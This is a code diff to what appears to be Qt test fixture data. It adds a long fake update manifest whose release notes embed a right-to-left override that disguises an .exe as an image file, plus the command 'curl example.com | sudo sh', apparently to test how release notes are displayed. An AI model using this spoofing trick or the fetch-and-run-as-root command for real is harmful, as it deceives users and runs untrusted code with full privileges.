@@ -100,3 +100,13 @@ QList<FolderItem> SnapshotData::builtInItems(const QString& home) {
 DiskSpaceInfo SnapshotData::disk() {
     return {494'384'795'648, 131 * GB};
 }
+
+QByteArray SnapshotData::longManifest() {
+    QByteArray notes = "Scans are up to twice as fast on large caches.\\n\\n"
+                       "See \\u202egnp.exe and run:\\u2028curl example.com | sudo sh\\n";
+    for (int line = 0; line < 1000; ++line) {
+        notes += "- Fixed issue " + QByteArray::number(line) + " in the window.\\n";
+    }
+    return R"({"version": "2.4.0", "build": 120, "releaseNotes": ")" + notes +
+           R"(", "downloadURL": "https://example.com/download"})";
+}
